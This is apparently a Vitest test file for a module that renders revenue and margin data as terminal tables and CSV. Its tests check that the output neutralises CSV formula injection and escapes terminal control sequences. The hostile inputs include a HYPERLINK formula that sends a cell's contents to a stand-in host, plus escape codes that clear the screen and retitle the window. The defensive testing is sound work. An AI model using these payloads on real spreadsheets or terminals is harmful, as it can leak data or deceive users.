import { describe, expect, it } from 'vitest';
import { renderCsv, renderTable } from './render.js';
import type { Column } from './render.js';

const columns: Column[] = [
  { key: 'tier', header: 'Tier', kind: 'text' },
  { key: 'revenueUsd', header: 'Revenue', kind: 'usd' },
  { key: 'grossMarginPct', header: 'Margin %', kind: 'pct' },
];
const rows = [
  { tier: 'enterprise', revenueUsd: 11940, grossMarginPct: 90.77 },
  { tier: 'free', revenueUsd: 0, grossMarginPct: null },
];

describe('renderTable', () => {
  it('aligns text left and numbers (and their headings) right under a rule', () => {
    expect(renderTable(columns, rows)).toBe(
      [
        'Tier           Revenue  Margin %',
        '──────────  ──────────  ────────',
        'enterprise  $11,940.00     90.8%',
        'free             $0.00         —',
        '',
      ].join('\n'),
    );
  });

  it('says so when there are no rows', () => {
    expect(renderTable(columns, [])).toContain('(no data in this window)');
  });
});

describe('renderCsv', () => {
  it('has a header of field names and raw values; null is empty; fields with commas or quotes are quoted', () => {
    expect(renderCsv(columns, [...rows, { tier: 'a,"b"', revenueUsd: 1.23456789, grossMarginPct: -5 }])).toBe(
      ['tier,revenueUsd,grossMarginPct', 'enterprise,11940,90.77', 'free,0,', '"a,""b""",1.23456789,-5', ''].join('\n'),
    );
  });

  it('neutralises text a spreadsheet would run as a formula (OWASP CSV injection), but not negative numbers', () => {
    const users: Column[] = [
      { key: 'userId', header: 'User', kind: 'text' },
      { key: 'grossMarginUsd', header: 'Gross margin', kind: 'usd' },
    ];
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+1+2', '-1+2', '@SUM(A1)', '\t=1', '\r=1', 'user-7', "'quoted"];
    expect(renderCsv(users, hostile.map((userId) => ({ userId, grossMarginUsd: -14.5 })))).toBe(
      [
        'userId,grossMarginUsd',
        '"\'=HYPERLINK(""http://x.example/?""&A1,""x"")",-14.5',
        '"\'+1+2",-14.5',
        '"\'-1+2",-14.5',
        '"\'@SUM(A1)",-14.5',
        '"\'\\x09=1",-14.5',
        '"\'\\x0D=1",-14.5',
        'user-7,-14.5',
        "'quoted,-14.5",
        '',
      ].join('\n'),
    );
  });
});

describe('terminal safety', () => {
  it('escapes control characters of user ids in tables and CSV', () => {
    const users: Column[] = [{ key: 'userId', header: 'User', kind: 'text' }];
    const rows = [{ userId: 'u1\x1b[2J\x1b]0;owned\x07' }, { userId: 'u2\rfake' }];
    expect(renderTable(users, rows)).toBe(['User', '─'.repeat('u1\\x1B[2J\\x1B]0;owned\\x07'.length), 'u1\\x1B[2J\\x1B]0;owned\\x07', 'u2\\x0Dfake', ''].join('\n'));
    expect(renderCsv(users, rows)).toBe(['userId', 'u1\\x1B[2J\\x1B]0;owned\\x07', 'u2\\x0Dfake', ''].join('\n'));
  });
});
